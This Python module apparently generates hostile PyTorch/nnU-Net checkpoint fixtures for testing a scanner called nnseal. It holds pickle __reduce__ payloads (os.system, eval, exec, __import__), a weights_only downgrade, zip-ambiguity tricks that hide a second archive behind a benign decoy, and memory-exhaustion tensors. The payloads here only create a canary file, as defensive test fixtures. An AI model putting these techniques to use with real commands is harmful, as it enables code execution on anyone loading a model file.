"""Hostile checkpoints, generated in code: one function per attack.

Each ``make_*`` writes a file into ``directory`` and returns its path. Payloads that
run code try to create ``canary`` (``touch CANARY``); a test that finds the canary
has proven that nnseal ran attacker code. Nothing here is executed while building:
payloads are pickled (by reference), never called.
"""

from __future__ import annotations

import io
import os
import pickle
import shlex
import struct
import subprocess
import sys
import warnings
import zipfile
from functools import partial
from pathlib import Path

# torch.save(_use_new_zipfile_serialization=False)'s first record.
LEGACY_MAGIC_NUMBER = 0x1950A86A20F9469CFC6C


class Reduce:
    """Pickles as ``callable(*args)``: the classic __reduce__ payload."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def touch(canary: Path) -> str:
    return f"touch {shlex.quote(str(canary))}"


def python_touch(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


# --- tiny protocol-2 pickle assembler (for payloads pickle.dumps cannot express) ---------

class Asm:
    def __init__(self):
        self.out = bytearray(b"\x80\x02")

    def global_(self, module: str, name: str) -> Asm:
        self.out += b"c" + module.encode() + b"\n" + name.encode() + b"\n"
        return self

    def str_(self, text: str) -> Asm:
        raw = text.encode()
        self.out += b"X" + struct.pack("<I", len(raw)) + raw
        return self

    def int_(self, value: int) -> Asm:
        self.out += b"J" + struct.pack("<i", value)
        return self

    def op(self, code: bytes) -> Asm:
        self.out += code
        return self

    def call1(self) -> Asm:  # wrap the top item in a 1-tuple and REDUCE
        return self.op(b"\x85R")

    def call2(self) -> Asm:
        return self.op(b"\x86R")

    def done(self) -> bytes:
        return bytes(self.out + b".")


# --- torch-zip-shaped files ------------------------------------------------------------

def write_torch_zip(path: Path, data_pkl: bytes, *, storages: dict[str, bytes] | None = None,
                    prefix: str = "archive", extra: list[tuple[str, bytes]] | None = None) -> Path:
    """A zip laid out like torch.save's: PREFIX/data.pkl, PREFIX/data/<key>, PREFIX/version."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of some attacks
        zf.writestr(f"{prefix}/data.pkl", data_pkl)
        for name, data in (extra or []):
            zf.writestr(name, data)
        zf.writestr(f"{prefix}/byteorder", b"little")
        for key, data in (storages or {}).items():
            zf.writestr(f"{prefix}/data/{key}", data)
        zf.writestr(f"{prefix}/version", b"3\n")
    return path


def checkpoint_with(payload) -> dict:
    """An nnU-Net-shaped top level with ``payload`` where a value would be."""
    return {"network_weights": {}, "trainer_name": "nnUNetTrainer", "init_args": {"configuration": "2d"},
            "logging": payload}


def _zip_payload(directory: Path, name: str, payload, protocol: int = 2) -> Path:
    return write_torch_zip(directory / name, pickle.dumps(checkpoint_with(payload), protocol=protocol))


def benign_checkpoint_bytes() -> bytes:
    """A small valid checkpoint as torch.save writes it."""
    import torch

    buf = io.BytesIO()
    torch.save({"network_weights": {"w": torch.arange(16, dtype=torch.float32)}, "trainer_name": "nnUNetTrainer",
                "init_args": {"configuration": "2d", "fold": 0}}, buf)
    return buf.getvalue()


def rewrite_zip(source: bytes | Path, path: Path, change) -> Path:
    """Copy a zip (its bytes or its path) entry by entry (stored), passing each (name, data)
    through ``change`` (None drops it)."""
    opened = io.BytesIO(source) if isinstance(source, (bytes, bytearray)) else source
    with zipfile.ZipFile(opened) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            result = change(info.filename, src.read(info))
            if result is not None:
                dst.writestr(info.filename, result)
    return path


# --- one generator per attack ---------------------------------------------------------

def make_reduce_os_system(directory: Path, canary: Path) -> Path:
    return _zip_payload(directory, "os_system.pth", Reduce(os.system, touch(canary)))


def make_reduce_subprocess(directory: Path, canary: Path) -> Path:
    return _zip_payload(directory, "subprocess.pth", Reduce(subprocess.call, ["touch", str(canary)]))


def make_reduce_eval(directory: Path, canary: Path) -> Path:
    return _zip_payload(directory, "eval.pth", Reduce(eval, python_touch(canary)))


def make_reduce_exec(directory: Path, canary: Path) -> Path:
    return _zip_payload(directory, "exec.pth", Reduce(exec, python_touch(canary)))


def make_reduce_dunder_import(directory: Path, canary: Path) -> Path:
    # getattr(__import__("os"), "system")("touch CANARY")
    data = (Asm().global_("builtins", "getattr")
            .global_("builtins", "__import__").str_("os").call1()
            .str_("system").call2()
            .str_(touch(canary)).call1().done())
    return write_torch_zip(directory / "dunder_import.pth", data)


def make_reduce_importlib(directory: Path, canary: Path) -> Path:
    # getattr(importlib.import_module("os"), "system")("touch CANARY")
    data = (Asm().global_("builtins", "getattr")
            .global_("importlib", "import_module").str_("os").call1()
            .str_("system").call2()
            .str_(touch(canary)).call1().done())
    return write_torch_zip(directory / "importlib.pth", data)


def make_raw_pickle_named_pth(directory: Path, canary: Path) -> Path:
    path = directory / "raw_pickle.pth"
    path.write_bytes(pickle.dumps(checkpoint_with(Reduce(os.system, touch(canary))), protocol=2))
    return path


def make_partial_torch_load(directory: Path, canary: Path) -> Path:
    # functools.partial(torch.load, INNER, weights_only=False)(): the downgrade, chosen by the attacker.
    import torch

    inner = make_raw_pickle_named_pth(directory, canary).rename(directory / "inner.bin")
    loader = pickle.dumps(partial(torch.load, str(inner), weights_only=False), protocol=2)
    data = loader[:-1] + b")R."  # call the partial with no arguments
    return write_torch_zip(directory / "partial_torch_load.pth", data)


def make_nested_pickle_loads(directory: Path, canary: Path) -> Path:
    inner = pickle.dumps(Reduce(os.system, touch(canary)), protocol=2)
    return _zip_payload(directory, "nested_pickle_loads.pth", Reduce(pickle.loads, inner))


def make_numpy_load_allow_pickle(directory: Path, canary: Path) -> Path:
    import numpy as np

    npy = directory / "payload.npy"
    np.save(npy, np.array([Reduce(os.system, touch(canary))], dtype=object), allow_pickle=True)
    # numpy.load(file, mmap_mode=None, allow_pickle=True)
    return _zip_payload(directory, "numpy_load.pth", Reduce(np.load, str(npy), None, True))


def make_numpy_object_array(directory: Path, canary: Path) -> Path:
    import numpy as np

    array = np.array([Reduce(os.system, touch(canary)), 1], dtype=object)
    return _zip_payload(directory, "numpy_object_array.pth", array)


def make_torchscript_archive(directory: Path, canary: Path) -> Path:
    evil = pickle.dumps(Reduce(os.system, touch(canary)), protocol=2)
    return write_torch_zip(directory / "torchscript.pth", evil, extra=[
        ("archive/constants.pkl", evil),
        ("archive/code/__torch__.py", b"def forward(self, x):\n    return x\n"),
    ])


def make_legacy_format(directory: Path, canary: Path) -> Path:
    path = directory / "legacy.pth"
    parts = [
        pickle.dumps(LEGACY_MAGIC_NUMBER, protocol=2),
        pickle.dumps(1001, protocol=2),  # legacy protocol version
        pickle.dumps({"protocol_version": 1001, "little_endian": True,
                      "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2),
        pickle.dumps(checkpoint_with(Reduce(os.system, touch(canary))), protocol=2),
    ]
    path.write_bytes(b"".join(parts))
    return path


def make_protocol4_data_pkl(directory: Path, canary: Path) -> Path:
    return _zip_payload(directory, "protocol4.pth", Reduce(os.system, touch(canary)), protocol=4)


def _duplicate_data_pkl(directory: Path, canary: Path, name: str, hostile_first: bool) -> Path:
    benign = benign_checkpoint_bytes()
    with zipfile.ZipFile(io.BytesIO(benign)) as zf:
        prefix = zf.namelist()[0].split("/")[0]
    evil = pickle.dumps(checkpoint_with(Reduce(os.system, touch(canary))), protocol=2)
    path = directory / name
    with zipfile.ZipFile(io.BytesIO(benign)) as src, zipfile.ZipFile(path, "w") as dst, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        if hostile_first:
            dst.writestr(f"{prefix}/data.pkl", evil)
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info))
        if not hostile_first:
            dst.writestr(f"{prefix}/data.pkl", evil)
    return path


def make_duplicate_data_pkl_hostile_first(directory: Path, canary: Path) -> Path:
    return _duplicate_data_pkl(directory, canary, "dup_hostile_first.pth", True)


def make_duplicate_data_pkl_hostile_last(directory: Path, canary: Path) -> Path:
    return _duplicate_data_pkl(directory, canary, "dup_hostile_last.pth", False)


def make_local_central_name_mismatch(directory: Path, canary: Path) -> Path:
    """The central directory says archive/data.pkl; its local header says archive/data.pkX."""
    path = make_reduce_os_system(directory, canary).rename(directory / "name_mismatch.pth")
    raw = bytearray(path.read_bytes())
    local = raw.find(b"PK\x03\x04")
    name_start = local + 30
    name_len = struct.unpack_from("<H", raw, local + 26)[0]
    assert raw[name_start:name_start + name_len] == b"archive/data.pkl"
    raw[name_start + name_len - 1:name_start + name_len] = b"X"
    path.write_bytes(bytes(raw))
    return path


def make_storage_shorter_than_declared(directory: Path, canary: Path) -> Path:
    def shorten(name: str, data: bytes):
        return data[: len(data) // 2] if "/data/" in name else data

    return rewrite_zip(benign_checkpoint_bytes(), directory / "short_storage.pth", shorten)


def make_stride0_expansion(directory: Path, canary: Path) -> Path:
    """Four stored bytes viewed as a 2**17 x 2**17 float32 tensor (64 GiB once copied)."""
    import torch

    huge = torch.zeros(1).expand(1 << 17, 1 << 17)
    path = directory / "stride0.pth"
    torch.save({"network_weights": {"w": huge}, "trainer_name": "nnUNetTrainer",
                "init_args": {"configuration": "2d", "fold": 0}}, path)
    return path


def make_tensor_beyond_storage(directory: Path, canary: Path) -> Path:
    """A 2**28-element tensor over a 4-byte storage: loading it must not grow the storage to 1 GiB."""
    asm = Asm().op(b"}")  # the checkpoint dict
    asm.str_("trainer_name").str_("nnUNetTrainer").op(b"s")
    asm.str_("init_args").op(b"}").str_("configuration").str_("2d").op(b"s").op(b"s")
    asm.str_("network_weights").op(b"}").str_("w")
    asm.global_("torch._utils", "_rebuild_tensor_v2").op(b"(")
    asm.op(b"(").str_("storage").global_("torch", "FloatStorage").str_("0").str_("cpu").int_(1).op(b"tQ")
    asm.int_(0).int_(1 << 28).op(b"\x85").int_(1).op(b"\x85").op(b"\x89")
    asm.global_("collections", "OrderedDict").op(b")R")
    asm.op(b"tR").op(b"s").op(b"s")
    return write_torch_zip(directory / "beyond_storage.pth", asm.done(), storages={"0": b"\0\0\0\0"})


def make_empty_file(directory: Path, canary: Path) -> Path:
    path = directory / "empty.pth"
    path.write_bytes(b"")
    return path


def make_truncated_zip(directory: Path, canary: Path) -> Path:
    data = benign_checkpoint_bytes()
    path = directory / "truncated.pth"
    path.write_bytes(data[: len(data) // 2])
    return path


# --- more than one reading of the archive (issue 11) -------------------------------------
# The decoy is a real torch.save checkpoint; what torch's reader (miniz) opens instead is hidden
# in or around it. Built with tests/hostile_zips.py's relocation helpers.


def hostile_checkpoint_bytes(canary: Path) -> bytes:
    """A torch-zip checkpoint whose data.pkl runs ``touch canary`` through a REDUCE when loaded."""
    return pickle.dumps(checkpoint_with(Reduce(os.system, touch(canary))), protocol=2)


def _torch_zip_bytes(directory: Path, data_pkl: bytes) -> bytes:
    scratch = directory / ".scratch.zip"
    data = write_torch_zip(scratch, data_pkl).read_bytes()
    scratch.unlink()
    return data


def other_weights_checkpoint_bytes() -> bytes:
    """A valid checkpoint like the decoy, but with other weights (all 666.0)."""
    import torch

    buf = io.BytesIO()
    torch.save({"network_weights": {"w": torch.full((16,), 666.0)}, "trainer_name": "nnUNetTrainer",
                "init_args": {"configuration": "2d", "fold": 0}}, buf)
    return buf.getvalue()


def make_hidden_archive_checkpoint(directory: Path, canary: Path) -> Path:
    """A benign torch.save checkpoint whose end-record comment holds a second, complete torch zip (plus one
    byte of padding) whose data.pkl runs code: nnseal used to check the decoy, torch.load opens the other."""
    from hostile_zips import hide_archive_in_comment

    hidden = _torch_zip_bytes(directory, hostile_checkpoint_bytes(canary))
    path = directory / "hidden_archive.pth"
    path.write_bytes(hide_archive_in_comment(benign_checkpoint_bytes(), hidden))
    return path


def make_hidden_weights_checkpoint(directory: Path, canary: Path) -> Path:
    """The same trick with a harmless hidden checkpoint: every static check passes on the decoy while
    torch.load(weights_only=True) would load the hidden weights (666.0) without complaint."""
    from hostile_zips import hide_archive_in_comment

    path = directory / "hidden_weights.pth"
    path.write_bytes(hide_archive_in_comment(benign_checkpoint_bytes(), other_weights_checkpoint_bytes()))
    return path


def make_signature_in_checkpoint_comment(directory: Path, canary: Path) -> Path:
    """The benign checkpoint whose comment is an end-record signature and 18 zero bytes."""
    from hostile_zips import with_comment

    path = directory / "signature_in_comment.pth"
    path.write_bytes(with_comment(benign_checkpoint_bytes(), b"PK\x05\x06" + bytes(18)))
    return path


def make_checkpoint_comment(directory: Path, canary: Path) -> Path:
    """The benign checkpoint with a plain text comment (torch.save never writes one)."""
    from hostile_zips import with_comment

    path = directory / "comment.pth"
    path.write_bytes(with_comment(benign_checkpoint_bytes(), b"made by hand"))
    return path


def make_appended_data_checkpoint(directory: Path, canary: Path) -> Path:
    """The benign checkpoint followed by the hostile one: torch's backwards search finds the appended archive's
    end record (its offsets made absolute); nnseal's finds no end record whose comment ends the file."""
    from hostile_zips import relocate_zip

    decoy = benign_checkpoint_bytes()
    hidden = relocate_zip(_torch_zip_bytes(directory, hostile_checkpoint_bytes(canary)), len(decoy))
    path = directory / "appended_archive.pth"
    path.write_bytes(decoy + hidden)
    return path


def make_prepended_data_checkpoint(directory: Path, canary: Path) -> Path:
    """The hostile checkpoint after the benign one, the hostile one's offsets left relative to its own start:
    zipfile (and unzip) shift every offset by the prepended bytes and read the hostile archive."""
    decoy = benign_checkpoint_bytes()
    path = directory / "prepended_archive.pth"
    path.write_bytes(decoy + _torch_zip_bytes(directory, hostile_checkpoint_bytes(canary)))
    return path


# Attacks on the archive's single reading; each a (directory, canary) -> path generator.
AMBIGUITY_ATTACKS = (make_hidden_archive_checkpoint, make_hidden_weights_checkpoint,
                     make_signature_in_checkpoint_comment, make_checkpoint_comment, make_appended_data_checkpoint,
                     make_prepended_data_checkpoint)


def run_unpickler_on(path: Path) -> subprocess.CompletedProcess:
    """Control experiment: what plain pickle.load does with a payload (proves the canary works)."""
    code = "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))"
    return subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True, timeout=60)
